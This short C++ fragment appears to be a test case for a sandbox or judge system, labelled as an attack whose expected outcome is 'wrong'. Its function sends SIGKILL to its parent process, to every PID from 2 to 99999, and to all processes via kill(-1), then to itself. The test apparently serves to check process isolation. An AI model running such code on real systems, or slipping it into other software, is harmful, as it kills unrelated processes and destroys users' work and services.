// attack: kills every process that it can, its parents first
// outcome: wrong
#include <unistd.h>

#include <csignal>
static void attack() {
    kill(getppid(), SIGKILL);
    for (int process = 2; process < 100000; ++process) {
        if (process != getpid()) kill(process, SIGKILL);
    }
    kill(-1, SIGKILL);
    kill(getpid(), SIGKILL);
}
